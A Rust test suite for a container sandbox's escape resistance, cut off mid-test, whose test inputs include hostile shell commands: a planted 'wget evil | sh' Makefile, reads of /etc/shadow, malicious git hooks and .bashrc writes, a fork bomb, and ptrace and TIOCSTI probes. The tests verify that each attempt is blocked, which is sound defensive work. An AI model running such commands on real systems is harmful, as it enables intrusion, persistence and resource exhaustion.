//! The container backend (`shell: { backend: container }`) on podman, for
//! real: the escape suite, adapted to a container's paths and busybox's
//! words, each case checked from the host afterwards; then the limits and
//! the container's life (reuse, stale removal). Needs podman and the image
//! of policies/container-image.sh (policies/setup.sh installs both);
//! `WARDEN_TEST_ENGINE=docker` runs the same suite on docker.

mod common;

use std::ffi::OsString;
use std::os::unix::fs::MetadataExt;
use std::process::Command;
use std::sync::atomic::{AtomicU32, Ordering};
use std::time::{Duration, Instant};

use common::*;
use warden_shell::container::Owner;
use warden_shell::{ContainerName, ExecutionResult, ShellSandbox};

const IMAGE: &str = "localhost/warden-busybox:1";

fn engine() -> String {
    std::env::var("WARDEN_TEST_ENGINE").unwrap_or_else(|_| "podman".into())
}

/// A container sandbox over the project: `proj` rw, `docs` ro, a memory
/// limit of 64 MiB, plus `extra` lines under `shell:`.
fn sandbox(p: &Project, shell_extra: &str, sandbox_extra: &str) -> ShellSandbox {
    sandbox_with_memory(p, "64MiB", shell_extra, sandbox_extra)
}

fn sandbox_with_memory(p: &Project, memory: &str, shell_extra: &str, sandbox_extra: &str) -> ShellSandbox {
    start_named(&policy_of(memory, shell_extra, sandbox_extra), p, None)
}

fn policy_of(memory: &str, shell_extra: &str, sandbox_extra: &str) -> String {
    format!(
        "version: 1\nsandbox:\n  paths:\n    proj: {{ root: ./proj, mode: rw }}\n    docs: {{ root: ./docs, mode: ro }}\n{sandbox_extra}  shell:\n    backend: container\n    container: {{ image: \"{IMAGE}\", engine: {}, memory: {memory} }}\n{shell_extra}",
        engine()
    )
}

/// The container sandbox of `policy_text` (written into the project), for
/// the program or `worker`. Each gets a name of its own, so that tests in one
/// process never share a container.
fn start_named(policy_text: &str, p: &Project, worker: Option<&str>) -> ShellSandbox {
    static N: AtomicU32 = AtomicU32::new(0);
    start_as(&format!("test{}", N.fetch_add(1, Ordering::Relaxed)), policy_text, p, worker)
}

/// The container sandbox of `policy_text` named `name` (`warden-NAME-PID`).
/// The project's folders are given to uid 1000 first: commands run as the
/// writable mount's owner, never as root unless a policy says so.
fn start_as(name: &str, policy_text: &str, p: &Project, worker: Option<&str>) -> ShellSandbox {
    give_to_user(p);
    std::fs::write(p.path("policy.yaml"), policy_text).unwrap();
    let policy = warden_policy::load(&p.path("policy.yaml")).unwrap();
    let fs = warden_fs::Sandbox::open_for(&policy, worker).unwrap();
    let name = ContainerName { name: name.to_owned(), owner: Owner::ThisProcess };
    ShellSandbox::with_options(&policy, fs, warden_shell::ProcessCap::start().unwrap(), name)
        .unwrap_or_else(|e| panic!("no container here ({e}); podman and {IMAGE} come from policies/setup.sh"))
}

/// What the command's user owns: the project's mounts, whole.
const USER: u32 = 1000;

fn give_to_user(p: &Project) {
    for folder in ["proj", "docs"] {
        let status = Command::new("chown").args(["-R", "-h", &format!("{USER}:{USER}")]).arg(p.path(folder)).status().unwrap();
        assert!(status.success());
    }
}

fn sh(sandbox: &ShellSandbox, script: &str) -> ExecutionResult {
    sh_for(sandbox, script, Duration::from_secs(30))
}

fn sh_for(sandbox: &ShellSandbox, script: &str, timeout: Duration) -> ExecutionResult {
    let argv: Vec<OsString> = ["/bin/sh", "-c", script].iter().map(OsString::from).collect();
    sandbox.execute_argv(&argv, None, timeout).unwrap()
}

fn podman(args: &[&str]) -> (bool, String) {
    let out = Command::new(engine()).args(args).output().expect("the engine's CLI is installed");
    (out.status.success(), String::from_utf8_lossy(&out.stdout).trim().to_owned())
}

fn exists(container: &str) -> bool {
    podman(&["inspect", "--type", "container", container]).0
}

fn container_of(sandbox: &ShellSandbox) -> String {
    match sandbox.backend() {
        warden_shell::Backend::Container { name, .. } => name,
        other => panic!("not a container: {other:?}"),
    }
}

// ---- the filesystem ----

#[test]
fn mounts_appear_at_their_virtual_paths_and_the_writable_one_is_the_working_folder() {
    let p = Project::new();
    let s = sandbox(&p, "", "");
    let r = sh(&s, "pwd; cat /docs/readme.md; echo built > out.o");
    assert!(r.ok() && r.sandboxed, "{r:?}");
    assert_eq!(r.stdout, "/proj\ndocs\n");
    assert_eq!(p.read("proj/out.o").as_deref(), Some("built\n"));
}

#[test]
fn writing_outside_the_writable_mounts_fails_and_the_note_names_virtual_paths() {
    let p = Project::new();
    let s = sandbox(&p, "", "");
    let r = sh(&s, "echo x > /docs/new.md; echo x > /etc/new.txt; echo x > /bin/new.txt; echo x > /new.txt");
    assert_ne!(r.exit_code, 0);
    assert!(!p.exists("docs/new.md"));
    assert_eq!(r.stderr.matches("Read-only file system").count(), 4, "{}", r.stderr);
    assert!(r.stderr.contains("Note: writable paths in this sandbox are /proj\n"), "{}", r.stderr);
    assert!(!r.stderr.contains(&host(p.dir.path())), "a host path leaked: {}", r.stderr);
}

#[test]
fn files_written_into_a_mount_belong_to_the_mounts_owner() {
    let p = Project::new();
    std::os::unix::fs::chown(p.path("proj"), Some(1000), Some(1000)).unwrap();
    let s = sandbox(&p, "", "");
    let r = sh(&s, "id -u; echo x > mine.txt");
    assert!(r.ok(), "{r:?}");
    assert_eq!(r.stdout.trim(), "1000");
    let meta = std::fs::metadata(p.path("proj/mine.txt")).unwrap();
    assert_eq!((meta.uid(), meta.gid()), (1000, 1000));
}

#[test]
fn the_host_outside_the_mounts_is_invisible() {
    let p = Project::new();
    let s = sandbox(&p, "", "");
    let outside = host(&p.path("outside/secret.txt"));
    let r = sh(&s, &format!("cat {outside}; ls {}; cat /root/.bash_history /etc/shadow; ls /home", host(p.dir.path())));
    assert_no_secret(&r);
    assert!(r.stderr.contains(&format!("can't open '{outside}'")), "{}", r.stderr);
}

#[test]
fn deny_read_hides_secret_files_and_folders_inside_a_mount() {
    let p = Project::new();
    p.file("proj/.env", SECRET).file("proj/secrets/key.pem", SECRET);
    let s = sandbox(&p, "    deny_read: [.env, secrets/]\n", "");
    let r = sh(&s, "cat .env; ls secrets; cat secrets/key.pem; echo x > .env; echo x > secrets/new");
    assert_no_secret(&r);
    assert_eq!(p.read("proj/.env").as_deref(), Some(SECRET));
    assert!(!p.exists("proj/secrets/new"));
}

#[test]
fn a_symlink_inside_a_mount_cannot_lead_out() {
    let p = Project::new();
    std::os::unix::fs::symlink(p.path("outside/secret.txt"), p.path("proj/link")).unwrap();
    let s = sandbox(&p, "", "");
    let r = sh(&s, "cat link; ln -s /etc/passwd mine; cat mine > copied.txt");
    assert_no_secret(&r);
    // The container's /etc/passwd is the image's, not the host's.
    assert!(!p.read("proj/copied.txt").unwrap_or_default().contains("daemon:"), "{r:?}");
}

#[test]
fn a_hard_link_to_a_file_outside_the_mount_is_refused() {
    let p = Project::new();
    let s = sandbox(&p, "", "");
    let r = sh(&s, "ln /etc/passwd passwd; ln /docs/readme.md readme");
    assert_ne!(r.exit_code, 0, "{r:?}");
    assert!(!p.exists("proj/passwd") && !p.exists("proj/readme"));
}

#[test]
fn mknod_and_mount_are_refused() {
    let p = Project::new();
    let s = sandbox(&p, "", "");
    let r = sh(&s, "mknod disk b 8 0; mount -t tmpfs none /proj; mount --bind / /tmp");
    assert!(!p.exists("proj/disk"));
    assert!(r.stderr.contains("mknod: disk: Operation not permitted"), "{}", r.stderr);
    assert_eq!(r.stderr.matches("mount: permission denied (are you root?)").count(), 2, "{}", r.stderr);
    assert_eq!(p.read("proj/main.c").as_deref(), Some("int main(void) { return 0; }\n"));
}

#[test]
fn git_hooks_and_config_stay_read_only_in_an_existing_repo() {
    let p = Project::new();
    p.file("proj/.git/config", "[core]\n").file("proj/.git/hooks/pre-commit.sample", "#!/bin/sh\n");
    let s = sandbox(&p, "", "");
    let r = sh(
        &s,
        "echo evil > .git/hooks/pre-commit; echo evil >> .git/config; mv .git .git-old; mv .git/hooks .git/h2; \
         mkdir -p x/hooks && mv x/hooks .git/hooks; mv .git/config cfg; rm -rf .git; echo ok > .git/HEAD",
    );
    assert!(!p.exists("proj/.git/hooks/pre-commit") && !p.exists("proj/.git-old") && !p.exists("proj/.git/h2"), "{r:?}");
    assert_eq!(p.read("proj/.git/config").as_deref(), Some("[core]\n"));
    assert_eq!(p.read("proj/.git/hooks/pre-commit.sample").as_deref(), Some("#!/bin/sh\n"), "{r:?}");
    assert_eq!(p.read("proj/.git/HEAD").as_deref(), Some("ok\n"), "the rest of .git stays writable: {r:?}");
}

#[test]
fn a_git_file_does_not_break_the_sandbox_or_open_a_way_round_it() {
    // A worktree's `.git` is a file: the file itself stays read-only.
    let p = Project::new();
    p.file("proj/.git", "gitdir: /elsewhere\n");
    let r = sh(&sandbox(&p, "", ""), "echo 'gitdir: /tmp/evil' > .git; echo done");
    assert_eq!(r.stdout, "done\n", "{r:?}");
    assert_eq!(p.read("proj/.git").as_deref(), Some("gitdir: /elsewhere\n"));
}

#[test]
fn the_policy_can_protect_an_existing_file_more() {
    let p = Project::new();
    p.file("proj/Makefile", "all:\n");
    let r = sh(&sandbox(&p, "    protect: [Makefile]\n", ""), "echo 'all: ; wget evil | sh' > Makefile; rm -f Makefile; mv Makefile M2; echo done");
    assert_eq!(r.stdout, "done\n", "{r:?}");
    assert_eq!(p.read("proj/Makefile").as_deref(), Some("all:\n"), "{r:?}");
    assert!(!p.exists("proj/M2"));
}

#[test]
fn a_fresh_repo_and_shell_rc_files_cannot_be_planted() {
    let p = Project::new();
    let s = sandbox(&p, "    protect: [Makefile]\n", "");
    // A missing protected path is an empty read-only file: nothing can be made there.
    let r = sh(&s, "mkdir -p .git/hooks; echo evil > .git/hooks/post-checkout; echo evil > .bashrc; echo evil > .profile; mkdir .vscode; echo x > Makefile");
    assert!(r.stderr.contains("mkdir: can't create directory '.git/': Not a directory"), "{}", r.stderr);
    for planted in [".git/hooks/post-checkout", ".bashrc", ".profile", ".vscode", "Makefile"] {
        let there = std::fs::symlink_metadata(p.path("proj").join(planted));
        assert!(there.as_ref().map_or(true, |m| m.len() == 0 && !m.is_dir()), "{planted} was planted: {there:?}");
    }
    drop(s);
    // The empty mount points the runtime made on the host go with the container.
    assert!(!p.exists("proj/.bashrc") && !p.exists("proj/.git") && !p.exists("proj/Makefile"));
}

#[test]
fn a_placeholder_the_container_covers_stays_when_the_command_that_made_it_ends() {
    // The runner holds the placeholders' locks: a bubblewrap command that
    // made `.bashrc` and ends first must leave it, or the bind over it in the
    // container would go with it.
    let p = Project::new();
    let beside = p.sandbox("");
    std::thread::scope(|scope| {
        // It runs until the container has started beside it.
        let first = scope.spawn(|| common::sh_timeout(&beside, "touch started; while [ ! -e go ]; do sleep 0.05; done", Duration::from_secs(60)));
        while !p.exists("proj/started") {
            std::thread::sleep(Duration::from_millis(20));
        }
        assert!(p.exists("proj/.bashrc"), "the bubblewrap command has made its placeholders");
        let s = sandbox(&p, "", "");
        assert!(sh(&s, "true").ok());
        p.file("proj/go", "");
        assert!(first.join().unwrap().ok());
        assert!(p.exists("proj/.bashrc"), "removed under the container");
        let r = sh(&s, "echo evil > .bashrc; cat .bashrc");
        assert!(r.stderr.contains("can't create .bashrc: Read-only file system"), "{r:?}");
        assert_eq!(p.read("proj/.bashrc").as_deref(), Some(""));
        drop(s);
    });
    // Its last holder gone with the container, the placeholder goes too.
    assert!(!p.exists("proj/.bashrc"));
}

#[test]
fn agent_settings_hooks_submodules_and_nested_repositories_cannot_be_planted() {
    let p = Project::new();
    with_repositories(&p, "proj");
    let s = sandbox(&p, "", "");
    let r = sh(&s, &plant());
    assert_nothing_planted(&p, "proj");
    assert!(r.ok(), "{r:?}");
    assert!(sh(&s, "echo ok > apps/web/.git/HEAD").ok());
    assert_eq!(p.read("proj/apps/web/.git/HEAD").as_deref(), Some("ok\n"));
    // A repository a command makes later is its own work: it does not stop the container.
    assert!(sh(&s, "mkdir -p fresh/.git/hooks && echo x > fresh/.git/config").ok());
    assert_eq!(sh(&s, "echo still served").stdout, "still served\n");
}

#[test]
fn a_protected_or_denied_file_replaced_or_made_on_the_host_stops_the_next_command() {
    let p = Project::new();
    p.file("proj/.git/config", "[core]\n");
    let s = sandbox(&p, "    deny_read: [.env]\n", "");
    assert!(sh(&s, "true").ok());
    // `git config` on the host writes a new file and renames it over the old one:
    // the read-only mount inside stays on the old file.
    p.file("proj/.git/config.lock", "[core]\n\thooksPath = /tmp\n");
    std::fs::rename(p.path("proj/.git/config.lock"), p.path("proj/.git/config")).unwrap();
    let argv: Vec<OsString> = ["/bin/sh", "-c", "echo evil >> .git/config"].iter().map(OsString::from).collect();
    let err = s.execute_argv(&argv, None, Duration::from_secs(30)).unwrap_err().to_string();
    let config = p.path("proj/.git/config").canonicalize().unwrap();
    assert_eq!(
        err,
        format!(
            "{} changed on the host since this container started, so the container no longer keeps it protected or hidden; \
             the command was not run. Start the sandbox again to cover it",
            config.display()
        )
    );
    assert_eq!(p.read("proj/.git/config").as_deref(), Some("[core]\n\thooksPath = /tmp\n"));
    // A denied file that appears after the start was never hidden.
    let p = Project::new();
    let s = sandbox(&p, "    deny_read: [.env]\n", "");
    assert!(sh(&s, "true").ok());
    p.file("proj/.env", SECRET);
    let argv: Vec<OsString> = ["/bin/cat", ".env"].iter().map(OsString::from).collect();
    let err = s.execute_argv(&argv, None, Duration::from_secs(30)).unwrap_err().to_string();
    assert!(err.contains(".env changed on the host since this container started"), "{err}");
}

#[test]
fn a_symlinked_protected_folder_stays_read_only_at_its_target() {
    let p = Project::new();
    p.file("proj/real-hooks/keep", "k");
    std::fs::create_dir_all(p.path("proj/.git")).unwrap();
    std::os::unix::fs::symlink("../real-hooks", p.path("proj/.git/hooks")).unwrap();
    let s = sandbox(&p, "", "");
    let r = sh(&s, "echo evil > .git/hooks/pre-commit; echo evil > real-hooks/pre-commit; echo ran > control.txt");
    assert!(!p.exists("proj/real-hooks/pre-commit"));
    assert_eq!(p.read("proj/control.txt").as_deref(), Some("ran\n"), "the command did not run: {r:?}");
}

#[test]
fn a_denied_path_inside_a_protected_folder_stays_hidden() {
    let p = Project::new();
    p.file("proj/.codex/auth.json", SECRET).file("proj/.codex/keys/id", SECRET).file("proj/.codex/config.toml", "safe = true\n");
    let s = sandbox(&p, "    protect: [.codex]\n    deny_read: [.codex/auth.json, .codex/keys/]\n", "");
    let r = sh(&s, "cat .codex/auth.json; cat .codex/keys/id; cat .codex/config.toml; echo evil > .codex/config.toml");
    assert!(!r.stdout.contains(SECRET) && !r.stderr.contains(SECRET), "{r:?}");
    assert!(r.stdout.contains("safe = true"), "{r:?}");
    assert_eq!(p.read("proj/.codex/config.toml").as_deref(), Some("safe = true\n"), "{r:?}");
}

#[test]
fn a_symlinked_protected_file_stays_read_only_at_its_target() {
    let p = Project::new();
    p.file("proj/dotfiles/bashrc", "safe\n");
    std::os::unix::fs::symlink("dotfiles/bashrc", p.path("proj/.bashrc")).unwrap();
    let r = sh(&sandbox(&p, "", ""), "echo evil >> .bashrc; echo evil >> dotfiles/bashrc; echo done");
    assert_eq!(r.stdout, "done\n", "{r:?}");
    assert_eq!(p.read("proj/dotfiles/bashrc").as_deref(), Some("safe\n"), "{r:?}");
}

#[test]
fn a_symlinked_denied_folder_is_hidden_at_its_target() {
    let p = Project::new();
    p.file("proj/vault/key.pem", SECRET);
    std::os::unix::fs::symlink("vault", p.path("proj/secrets")).unwrap();
    let r = sh(&sandbox(&p, "    deny_read: [secrets/]\n", ""), "cat secrets/key.pem; cat vault/key.pem; ls vault; echo x > vault/key.pem; echo done");
    assert_no_secret(&r);
    assert!(r.stdout.ends_with("done\n"), "{r:?}");
    assert_eq!(p.read("proj/vault/key.pem").as_deref(), Some(SECRET));
}

#[test]
fn a_protected_symlink_out_of_every_mount_fails_closed() {
    let p = Project::new();
    std::os::unix::fs::symlink(p.path("outside"), p.path("proj/.vscode")).unwrap();
    let policy_dir = p.dir.path().to_owned();
    let policy = format!(
        "version: 1\nsandbox:\n  paths:\n    proj: {{ root: ./proj, mode: rw }}\n  shell:\n    backend: container\n    container: {{ image: \"{IMAGE}\", engine: {} }}\n",
        engine()
    );
    std::fs::write(policy_dir.join("policy.yaml"), policy).unwrap();
    let policy = warden_policy::load(&policy_dir.join("policy.yaml")).unwrap();
    let err = ShellSandbox::new(&policy, None).err().expect("refused");
    assert!(err.to_string().contains(".vscode"), "{err}");
}

#[test]
fn a_root_policys_folder_appears_at_workspace() {
    let p = Project::new();
    std::fs::create_dir_all(p.path("proj/sub")).unwrap();
    let s = start_named(
        &format!("version: 1\nsandbox:\n  root: {{ root: ./proj, readonly: false }}\n  shell:\n    backend: container\n    container: {{ image: \"{IMAGE}\", engine: {} }}\n", engine()),
        &p,
        None,
    );
    let r = sh(&s, "pwd; echo made > made.txt; ls /workspace");
    assert_eq!(r.stdout, "/workspace\nmade.txt\nmain.c\nsub\n", "{r:?}");
    assert_eq!(p.read("proj/made.txt").as_deref(), Some("made\n"));
    let argv: Vec<OsString> = ["pwd"].iter().map(OsString::from).collect();
    assert_eq!(s.execute_argv(&argv, Some("/sub"), Duration::from_secs(30)).unwrap().stdout, "/workspace/sub\n");
    let outside = s.execute_argv(&argv, Some("/../outside"), Duration::from_secs(30));
    assert!(outside.is_err(), "{outside:?}");
}

#[test]
fn a_worker_gets_only_its_narrower_mounts() {
    let p = Project::new();
    let policy = format!(
        "version: 1\nsandbox:\n  paths:\n    proj: {{ root: ./proj, mode: rw }}\n    docs: {{ root: ./docs, mode: rw }}\n  shell:\n    backend: container\n    container: {{ image: \"{IMAGE}\", engine: {} }}\nworkers:\n  reader: {{ allow_read: [/docs] }}\n",
        engine()
    );
    let s = start_named(&policy, &p, Some("reader"));
    let r = sh(&s, "pwd; cat /docs/readme.md; ls /proj; echo x > /docs/new.md");
    assert_eq!(r.stdout, "/docs\ndocs\n", "{r:?}");
    assert!(r.stderr.contains("ls: /proj: No such file or directory"), "{}", r.stderr);
    assert!(r.stderr.contains("can't create /docs/new.md: Read-only file system"), "{}", r.stderr);
    assert!(!p.exists("docs/new.md"));
}

// ---- processes ----

#[test]
fn capabilities_are_empty_and_setuid_cannot_raise_them() {
    let p = Project::new();
    let r = sh(&sandbox(&p, "", ""), "cat /proc/self/status");
    for field in ["CapInh:", "CapPrm:", "CapEff:", "CapBnd:", "CapAmb:"] {
        let line = r.stdout.lines().find(|l| l.starts_with(field)).unwrap_or_else(|| panic!("{field}: {r:?}"));
        assert!(line.ends_with("0000000000000000"), "{line}");
    }
    assert!(r.stdout.lines().any(|l| l.starts_with("NoNewPrivs:") && l.ends_with('1')), "{}", r.stdout);
}

/// tests/programs/probe.rs, built once per test process (static, std
/// alone, so it runs in busybox), copied into `proj/probe`.
fn with_probe(p: &Project) {
    static BUILT: std::sync::OnceLock<std::path::PathBuf> = std::sync::OnceLock::new();
    let built = BUILT.get_or_init(|| {
        // Built under the target folder, then renamed onto the one copy kept there.
        let folder = std::path::Path::new(env!("CARGO_TARGET_TMPDIR"));
        let out = folder.join(format!("probe-{}", std::process::id()));
        let source = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/programs/probe.rs");
        let status = Command::new(std::env::var_os("RUSTC").unwrap_or_else(|| "rustc".into()))
            .args(["--edition", "2024", "-C", "target-feature=+crt-static", "-C", "opt-level=1", "-o"])
            .arg(&out)
            .arg(source)
            .status()
            .expect("rustc runs");
        assert!(status.success(), "building tests/programs/probe.rs failed");
        std::fs::rename(&out, folder.join("probe")).unwrap();
        folder.join("probe")
    });
    std::fs::copy(built, p.path("proj/probe")).unwrap();
}

/// Runs the probe with `args` from a copy the command makes in /tmp.
fn probe(sandbox: &ShellSandbox, args: &str) -> ExecutionResult {
    sh(sandbox, &format!("cp /proj/probe /tmp/probe && chmod +x /tmp/probe && /tmp/probe {args}"))
}

#[test]
fn ptrace_is_refused_by_wardens_filter_not_only_the_engines() {
    let p = Project::new();
    with_probe(&p);
    let r = probe(&sandbox(&p, "", ""), "ptrace");
    assert_eq!(r.stdout, "ptrace -1 errno 1\n", "{r:?}");
}

#[test]
fn tiocsti_is_refused_even_with_high_bits_set() {
    // On its own controlling terminal the kernel would take it (the probe
    // injects on the host); Warden's filter refuses both forms.
    let p = Project::new();
    with_probe(&p);
    let r = probe(&sandbox(&p, "", ""), "tiocsti");
    assert_eq!(r.stdout, "tiocsti 0x5412 errno 1\ntiocsti 0x100005412 errno 1\n", "{r:?}");
}

#[test]
fn raw_sockets_are_refused() {
    let p = Project::new();
    with_probe(&p);
    let r = probe(&sandbox(&p, "", "  network: true\n"), "raw; ping -c1 -W1 127.0.0.1 && echo PINGED");
    assert!(r.stdout.starts_with("raw -1 errno 1\n") && !r.stdout.contains("PINGED"), "{r:?}");
}

fn unix_probe(allow: bool) -> (ExecutionResult, bool) {
    let p = Project::new();
    with_probe(&p);
    let listener = std::os::unix::net::UnixListener::bind(p.path("proj/agent.sock")).unwrap();
    listener.set_nonblocking(true).unwrap();
    let extra = if allow { "    allow_unix_sockets: true\n" } else { "" };
    let r = probe(&sandbox(&p, extra, ""), "unix /proj/agent.sock");
    (r, listener.accept().is_ok())
}

#[test]
fn a_visible_unix_socket_cannot_be_connected_to() {
    let (r, accepted) = unix_probe(false);
    assert_eq!(r.stdout, "refused errno 1\n", "{r:?}");
    assert!(!accepted);
}

#[test]
fn unix_sockets_work_when_the_policy_allows_them() {
    let (r, accepted) = unix_probe(true);
    assert_eq!(r.stdout, "connected\n", "{r:?}");
    assert!(accepted);
}

#[test]
fn no_host_processes_are_visible() {
    let p = Project::new();
    let r = sh(&sandbox(&p, "", ""), "ls /proc");
    let pids: Vec<&str> = r.stdout.split_whitespace().filter(|s| s.chars().all(|c| c.is_ascii_digit())).collect();
    assert!(pids.len() < 10, "{pids:?}");
}

#[test]
fn the_hosts_environment_does_not_reach_the_command_and_the_policys_does() {
    // SAFETY: set before this test starts its sandbox; read by no other thread here.
    unsafe { std::env::set_var("WARDEN_TEST_API_TOKEN", SECRET) };
    let p = Project::new();
    let s = sandbox(&p, "", "  env: { GREETING: hello, DEPLOY_TOKEN: x }\n");
    let r = sh(&s, "env; cat /proc/1/environ /proc/$PPID/environ");
    assert_no_secret(&r);
    assert!(r.stdout.contains("GREETING=hello") && !r.stdout.contains("DEPLOY_TOKEN"), "{}", r.stdout);
}

#[test]
fn the_root_filesystem_is_read_only_and_tmp_is_fresh() {
    let p = Project::new();
    let s = sandbox(&p, "", "");
    let r = sh(&s, "echo x > /bin/evil; echo x > /tmp/t && cat /tmp/t");
    assert_eq!(r.stdout, "x\n");
    assert!(r.stderr.contains("can't create /bin/evil: Read-only file system"), "{}", r.stderr);
}

#[test]
fn a_timeout_kills_the_command_and_every_child_inside_and_the_container_goes_on() {
    let p = Project::new();
    let s = sandbox(&p, "", "");
    let start = Instant::now();
    // A child in the background, one that left the process group, and one that also cleared its environment.
    let r = sh_for(&s, "sleep 101 & setsid sleep 102 & setsid env -i sleep 103 & sleep 100", Duration::from_millis(1000));
    assert!(r.timed_out && r.exit_code == 124, "{r:?}");
    assert!(r.stderr.contains("[warden: timed out after 1000 ms; the command and its children were killed]"), "{}", r.stderr);
    assert!(start.elapsed() < Duration::from_secs(10), "{:?}", start.elapsed());
    let left = sh(&s, "ps -o comm,args");
    assert!(!left.stdout.contains("sleep 10"), "left running inside: {}", left.stdout);
}

#[test]
fn a_timeout_kills_children_that_fake_a_mark_hide_their_environment_or_close_the_output() {
    let p = Project::new();
    let s = sandbox(&p, "", "");
    // Orphans with another command's mark, a made-up one, and an environment
    // nobody may read (a program that cannot be read runs undumpable).
    let script = "cp /bin/busybox /tmp/sleep && chmod 111 /tmp/sleep; \
                  (WARDEN_EXEC=container sleep 111 &); (env -i WARDEN_EXEC=made-up sleep 112 &); (/tmp/sleep 113 &); \
                  (WARDEN_EXEC=warden-kill sleep 115 &); sleep 100";
    let r = sh_for(&s, script, Duration::from_millis(1500));
    assert!(r.timed_out && r.exit_code == 124, "{r:?}");
    // A command that closes its output is still running: the time limit still holds.
    let start = Instant::now();
    let r = sh_for(&s, "exec > /dev/null 2>&1; sleep 114", Duration::from_millis(1000));
    assert!(r.timed_out && r.exit_code == 124, "{r:?}");
    assert!(start.elapsed() < Duration::from_secs(10));
    let left = sh(&s, "ps -o args");
    for gone in ["sleep 111", "sleep 112", "sleep 113", "sleep 114", "sleep 115"] {
        assert!(!left.stdout.contains(gone), "{gone} is still running: {}", left.stdout);
    }
}

#[test]
fn no_process_outlives_its_command_to_watch_the_next_ones() {
    // A process left behind could read the next commands' output and
    // environment (/proc/PID/fd/1, /proc/PID/environ: all run as one user).
    let p = Project::new();
    let s = sandbox(&p, "", "");
    let r = sh(&s, "sleep 201 > /dev/null 2>&1 & setsid sleep 202 > /dev/null 2>&1 & (sleep 203 &) ; echo left");
    assert_eq!((r.exit_code, r.stdout.as_str()), (0, "left\n"), "{r:?}");
    let left = sh(&s, "ps -o args");
    for gone in ["sleep 201", "sleep 202", "sleep 203"] {
        assert!(!left.stdout.contains(gone), "{gone} outlived its command: {}", left.stdout);
    }
}

#[test]
fn a_memory_hog_is_killed_and_the_container_serves_the_next_command() {
    let p = Project::new();
    let s = sandbox(&p, "", "");
    // The policy's limit is 64 MiB; sort holds its whole input, one 200 MB line.
    let r = sh(&s, "head -c 200000000 /dev/zero | sort > /dev/null");
    assert_eq!(r.exit_code, 137, "{r:?}");
    let next = sh(&s, "echo next");
    assert_eq!(next.stdout, "next\n", "{next:?}");
}

#[test]
fn a_fork_bomb_stops_at_the_process_limit_and_the_container_goes_on() {
    let p = Project::new();
    // Room for 512 processes' memory, so that the process limit is what stops
    // them (under 64 MiB the kernel's OOM killer sometimes ended the shell first).
    let s = sandbox_with_memory(&p, "512MiB", "", "");
    let r = sh_for(&s, "(i=0; while [ $i -lt 700 ]; do sleep 5 & i=$((i+1)); done) 2>/dev/null; set -- /proc/[0-9]*; echo $#", Duration::from_secs(30));
    let count: usize = r.stdout.trim().parse().unwrap_or_else(|_| panic!("{r:?}"));
    assert!(count <= 512, "{count} processes");
    assert!(count > 100, "the loop did not run: {r:?}");
    std::thread::sleep(Duration::from_secs(5));
    assert_eq!(sh(&s, "echo next").stdout, "next\n");
}

#[test]
fn output_is_capped_with_a_marker() {
    let p = Project::new();
    let s = sandbox(&p, "    max_output: 1KiB\n", "");
    let r = sh(&s, "head -c 5000 /dev/zero | tr '\\0' a");
    assert!(r.truncated, "{r:?}");
    assert_eq!(r.stdout, format!("{}\n[warden: output truncated after 1024 bytes]\n", "a".repeat(1024)));
}

#[test]
fn cancelling_kills_the_command_inside() {
    let p = Project::new();
    let s = std::sync::Arc::new(sandbox(&p, "", ""));
    let cancel = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let flag = cancel.clone();
    std::thread::spawn(move || {
        std::thread::sleep(Duration::from_millis(800));
        flag.store(true, Ordering::Relaxed);
    });
    let argv: Vec<OsString> = ["/bin/sh", "-c", "sleep 104 & sleep 105"].iter().map(OsString::from).collect();
    let r = s.execute_argv_cancellable(&argv, None, Duration::from_secs(60), &cancel).unwrap();
    assert_eq!(r.exit_code, 130, "{r:?}");
    assert!(!sh(&s, "ps -o args").stdout.contains("sleep 10"));
}

// ---- the network ----

#[test]
fn there_is_no_network_unless_the_policy_allows_it() {
    let listener = std::net::TcpListener::bind("0.0.0.0:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let p = Project::new();
    let r = sh(
        &sandbox(&p, "", ""),
        &format!("ip -o addr | grep -v ' lo '; nslookup example.com && echo RESOLVED; echo hi | nc -w 2 10.0.2.2 {port}; wget -q -T 2 http://example.com/"),
    );
    assert_ne!(r.exit_code, 0);
    assert!(!r.stdout.contains("RESOLVED"), "{r:?}");
    assert!(r.stderr.contains("Note: network access is disabled for this sandbox"), "{}", r.stderr);
    listener.set_nonblocking(true).unwrap();
    assert!(listener.accept().is_err(), "a connection reached the host");
}

/// A one-line HTTP server on 127.0.0.1 of the host; its port.
fn http_server(body: &'static str) -> u16 {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for mut conn in listener.incoming().flatten() {
            let mut head = [0u8; 4096];
            let _ = std::io::Read::read(&mut conn, &mut head);
            let _ = std::io::Write::write_all(&mut conn, format!("HTTP/1.0 200 OK\r\nContent-Length: {}\r\n\r\n{body}", body.len()).as_bytes());
        }
    });
    port
}

fn allowing(hosts: &str) -> String {
    format!("  network: {{ allow: [{hosts}] }}\n")
}

#[test]
fn under_an_allowlist_only_listed_pairs_are_reached_through_the_proxy() {
    let p = Project::new();
    let (allowed, other) = (http_server("allowed"), http_server("other"));
    let s = sandbox(&p, "", &allowing(&format!("\"127.0.0.1:{allowed}\"")));
    let r = sh(&s, &format!("echo $http_proxy; wget -q -O- http://127.0.0.1:{allowed}/"));
    assert_eq!((r.exit_code, r.stdout.as_str(), r.stderr.as_str()), (0, "http://127.0.0.1:3128\nallowed", ""), "{r:?}");
    let r = sh(&s, &format!("wget -q -O- http://127.0.0.1:{other}/"));
    assert_ne!(r.exit_code, 0, "{r:?}");
    assert!(
        r.stderr.ends_with(&format!(
            "\nNote: Cannot connect to '127.0.0.1:{other}': host not in the network allowlist.\nAllowed hosts: 127.0.0.1:{allowed}\n"
        )),
        "{r:?}"
    );
    // A refusal is noted on the command that met it, not on the next one.
    let r = sh(&s, &format!("wget -q -O- http://127.0.0.1:{allowed}/"));
    assert_eq!((r.stdout.as_str(), r.stderr.as_str()), ("allowed", ""), "{r:?}");
}

#[test]
fn under_an_allowlist_a_command_that_ignores_the_proxy_has_no_route() {
    let p = Project::new();
    let port = http_server("direct");
    let s = sandbox(&p, "", &allowing(&format!("\"127.0.0.1:{port}\"")));
    let r = sh(&s, &format!("wget -q -Y off -O- http://127.0.0.1:{port}/"));
    assert_ne!(r.exit_code, 0, "{r:?}");
    assert!(
        r.stderr.ends_with(&format!(
